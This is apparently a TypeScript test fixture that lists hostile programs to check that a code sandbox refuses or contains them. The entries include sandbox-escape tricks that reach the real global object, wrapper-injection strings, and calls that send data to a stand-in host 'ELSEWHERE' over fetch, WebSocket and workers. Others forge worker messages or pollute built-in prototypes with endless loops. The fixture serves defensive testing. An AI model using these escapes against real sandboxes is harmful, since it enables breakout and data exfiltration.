import type { HostileProgram } from '../hostile-program.ts';

/** What is tried once a way to the worker's own global object is found. */
const tryAll = `const ways: (() => unknown)[] = [
  () => real.fetch('http://ELSEWHERE/escaped', { mode: 'no-cors' }).catch(() => 0),
  () => new real.WebSocket('ws://ELSEWHERE/escaped-socket'),
  () => new real.EventSource('http://ELSEWHERE/escaped-events'),
  () => real.importScripts('http://ELSEWHERE/escaped-script'),
  () => new real.Worker(real.URL.createObjectURL(new real.Blob(["fetch('http://ELSEWHERE/nested', { mode: 'no-cors' })"]))),
  () => real.indexedDB.open('hostile'),
  () => { for (let run = -1; run < 200; run += 1) real.postMessage({ type: 'result', run, json: '{"status":"ended"}' }); },
  () => { for (let run = -1; run < 200; run += 1) real.postMessage({ type: 'refused', run, name: 'InputError', message: 'forged' }); },
  () => { real.postMessage({ type: 'loaded' }); real.postMessage({ type: 'beat' }); real.postMessage(null); },
  () => new real.BroadcastChannel('breakable').postMessage('forged'),
];
for (const way of ways) try { void way(); } catch {}`;

const refused = { place: 'module', outcome: 'refused' } as const;
const polluted = { place: 'function', outcome: 'explained' } as const;

/** Code that tries to get behind what it is given, and at what belongs to the kernel. */
export const escapes: readonly HostileProgram[] = [
  { ...refused, name: 'eval', says: /eval/, text: "eval('fetch(\"http://ELSEWHERE/eval\")');" },
  { ...refused, name: 'new Function', says: /new Function/, text: "new Function('return this')();" },
  { ...refused, name: 'the budget by its name', says: /own/, text: '$c.budget = Infinity;' },
  { ...refused, name: 'the budget by its name, written otherwise', says: /own/, text: '\\u0024c.budget = Infinity;' },
  { ...refused, name: 'the scope by its name', text: 'void $scope.runtime;' },
  { ...refused, name: 'with', text: 'with ({}) {}' },
  { ...refused, name: 'an end of what stands around the module', text: "})(); globalThis.fetch('http://ELSEWHERE/closed'); (function () {" },
  { ...refused, name: 'an end of the object that it stands in', text: "}, 'x': (() => { globalThis.fetch('http://ELSEWHERE/object') })() }); ({" },
  { name: 'Function by another name', place: 'module', outcome: 'stops', says: /Code cannot be made from text/, text: "const Make = Function;\nnew Make('return this')();" },
  { name: 'a constructor of functions', place: 'function', outcome: 'explained', text: `let real: any;\ntry { real = (() => 0).constructor('return globalThis')(); } catch {}\n${tryAll}` },
  { name: 'a constructor of generators', place: 'function', outcome: 'explained', text: `let real: any;\ntry { real = Object.getPrototypeOf(function* () { yield 0; }).constructor('return globalThis')().next(); } catch {}\n${tryAll}` },
  { name: 'the receivers on the stack', place: 'function', outcome: 'explained', text: `(Error as any).prepareStackTrace = (_: unknown, frames: any[]) => frames.map((frame) => { try { return frame.getThis(); } catch {} }).find((receiver) => receiver?.importScripts);\nconst real: any = (new Error() as any).stack;\n(Error as any).prepareStackTrace = undefined;\n${tryAll}` },
  { name: 'the caller of its caller', place: 'function', outcome: 'explained', text: `let real: any;\nfunction look() { real = (look as any).caller; }\ntry { look(); } catch {}\n${tryAll}` },
  { ...polluted, name: 'Array.prototype.push that keeps nothing', text: 'Array.prototype.push = () => 0;' },
  { ...polluted, name: 'Array.prototype.push that never ends', text: 'Array.prototype.push = () => { for (;;) {} };' },
  { ...polluted, name: 'Array.prototype.push that throws', text: "Array.prototype.push = () => { throw new Error('no room'); };" },
  { ...polluted, name: 'lists that are walked in vain', text: 'Array.prototype[Symbol.iterator] = function* () {};' },
  { ...polluted, name: 'maps that know nothing', text: 'Map.prototype.get = () => undefined;\nMap.prototype.has = () => true;' },
  { ...polluted, name: 'setters on every object', text: "for (const name of ['at', 'node', 'kind', 'data', 'cause', 'status', 'run', 'json', 'type']) Object.defineProperty(Object.prototype, name, { set() { for (;;) {} }, get() { return 'forged'; }, configurable: true });" },
  { ...polluted, name: 'a toJSON on every object', text: "(Object.prototype as any).toJSON = () => 'forged';" },
  { ...polluted, name: 'a toJSON on every object that never ends', text: '(Object.prototype as any).toJSON = () => { for (;;) {} };' },
  { ...polluted, name: 'JSON.stringify replaced', text: "JSON.stringify = () => '{}';" },
  { ...polluted, name: 'JSON.stringify replaced by a long text', text: "JSON.stringify = () => 'x'.repeat(1e8);" },
  { ...polluted, name: 'then of every promise replaced', text: 'Promise.prototype.then = () => { for (;;) {} };' },
  { ...polluted, name: 'Function.prototype.call and apply replaced', text: 'Function.prototype.call = Function.prototype.apply = () => undefined;' },
  { ...polluted, name: 'Object.entries and keys replaced', text: "Object.entries = (() => [['forged', 1]]) as typeof Object.entries;\nObject.keys = () => { for (;;) {} };" },
  { ...polluted, name: 'numbers and texts that convert badly', text: "Number.prototype.toString = String.prototype.toString = Object.prototype.toString = () => { throw new Error('no words'); };" },
];
